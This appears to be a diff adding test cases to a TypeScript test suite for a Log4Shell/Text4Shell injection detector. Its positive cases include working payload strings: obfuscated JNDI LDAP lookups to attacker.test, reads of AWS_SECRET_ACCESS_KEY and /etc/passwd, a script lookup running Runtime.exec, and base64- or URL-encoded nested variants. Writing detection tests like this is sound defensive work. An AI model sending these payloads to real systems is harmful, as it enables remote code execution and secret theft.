@@ -61,6 +61,23 @@ const positives: string[] = [
   ' "${sys:os.name}" ',
   '${env:USER}${sys:java.vendor}',
   '${lower:${env:HOSTNAME}}',
+  // Undefined names with a default inside another lookup evaluate to the default.
+  '${${x:-j}${y:-n}${z:-d}${w:-i}:ldap://attacker.test/a}',
+  '${${HOME:-j}ndi:ldap://attacker.test/a}',
+  '${${unset:-e}nv:AWS_SECRET_ACCESS_KEY}',
+  // Apache Commons Text lookups (Text4Shell): code, fetches, file reads, DNS, and decoders whose
+  // output is substituted again.
+  "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
+  "${script:JS:1+1}",
+  '${url:UTF-8:http://attacker.test/x}',
+  '${url:utf8:https://attacker.test/}',
+  '${file:UTF-8:/etc/passwd}',
+  '${dns:address|attacker.test}',
+  '${dns:canonical-name|attacker.test}',
+  '${base64Decoder:JHtzY3JpcHQ6amF2YXNjcmlwdDpqYXZhLmxhbmcuUnVudGltZS5nZXRSdW50aW1lKCkuZXhlYygiaWQiKX0=}',
+  '${base64Decoder:JHtqbmRpOmxkYXA6Ly9hdHRhY2tlci50ZXN0L2F9}',
+  '${urlDecoder:%24%7Bjndi:ldap://attacker.test/a%7D}',
+  '${${base64Decoder:am5kaQ==}:ldap://attacker.test/a}',
 ];
 
 /** Sensitive lookups inside other text (config files, sentences about Log4j), or ill-formed: medium. */
@@ -100,6 +117,20 @@ const negatives: string[] = [
   '${upper:abc}',
   '$jndi:ldap://x',
   '{jndi:ldap://x}',
+  // Shell and Compose defaults, nested or not, build no lookup name
+  '${VAR:-${OTHER:-default}}',
+  '${A:-${B:-${C:-x}}}',
+  '${VAR:-${OTHER}}',
+  'Hi ${name:-friend}!',
+  // Spring-style placeholders named like Commons Text lookups, with defaults
+  '${url:https://example.com}',
+  '${script}',
+  '${script:default.js}',
+  '${file:./config.yml}',
+  '${dns:8.8.8.8}',
+  'Set ${url} and ${file} in the template',
+  '${base64Decoder:SGVsbG8=}',
+  '${urlDecoder:a%20b}',
 ];
 
 t.test('JNDI lookups are detected at high confidence', async (t) => {
@@ -159,6 +190,9 @@ t.test('adversarial 1 MB inputs return without throwing', async (t) => {
     many: '${a}'.repeat(MB / 4),
     dollars: '$'.repeat(MB),
     surrogates: '${' + '\ud800'.repeat(MB) + '}',
+    // decoder outputs that are lookups again: the re-scans share one budget per call
+    decoders: '${base64Decoder:JHtiYXNlNjREZWNvZGVyOkpIdGlZWE5sTmpSRVpXTnZaR1Z5T2twSWN6MTl9}'.repeat(MB / 64),
+    urlDecoders: '${urlDecoder:%24%7BurlDecoder:%2524%257B%7D}'.repeat(MB / 48),
   };
   for (const [name, v] of Object.entries(big)) {
     t.doesNotThrow(() => detectJndi(v), name);
